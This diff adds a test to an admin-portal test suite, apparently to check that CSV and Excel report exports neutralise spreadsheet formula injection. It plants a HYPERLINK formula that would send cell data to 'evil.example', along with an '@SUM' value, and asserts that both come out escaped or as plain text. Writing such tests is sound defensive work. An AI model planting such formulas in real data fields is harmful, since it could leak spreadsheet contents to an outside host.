@@ -475,4 +475,39 @@ describe('admin portal II: API keys, billing, system health, security', () => {
       .poll(lastExport)
       .toMatchObject({ report_type: 'users', format: 'csv', rows: 0, from: '2001-01-01' });
   });
+
+  it('reports: text a spreadsheet would run as a formula is written as text, numbers as numbers', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const user = await createUser(t);
+    await t.runtime.db.update(users).set({ fullName: name }).where(eq(users.id, user.id));
+    await call(full, 'POST', `/api/admin/users/${user.id}/credits`, { amount: 3, reason: 'x' });
+    await call(full, 'POST', `/api/admin/users/${user.id}/credits`, {
+      amount: -1.25,
+      reason: '@SUM(1+1)',
+    });
+    const exportAs = (body: object) =>
+      t.app.inject({
+        method: 'POST',
+        url: '/api/admin/reports/export',
+        headers: bearer(full),
+        payload: body,
+      });
+
+    const signups = (await exportAs({ report_type: 'users', format: 'csv' })).body.split('\n');
+    const row = signups.find((line) => line.includes(user.email));
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
+
+    const ledger = (await exportAs({ report_type: 'credits', format: 'csv' })).body.split('\n');
+    const deduction = ledger.find((line) => line.includes(user.email) && line.includes('-1.25'));
+    expect(deduction).toMatch(
+      /,adjustment,-1\.25,1\.75,Credits deducted by support: @SUM\(1\+1\)$/,
+    );
+
+    // An xlsx cell holds the name as a string value (no <f> formula): Excel shows it, never runs it.
+    const excel = await exportAs({ report_type: 'users', format: 'excel' });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(excel.rawPayload as unknown as ArrayBuffer);
+    const names = workbook.worksheets[0].getColumn(3).values;
+    expect(names).toContain(name);
+  });
 });
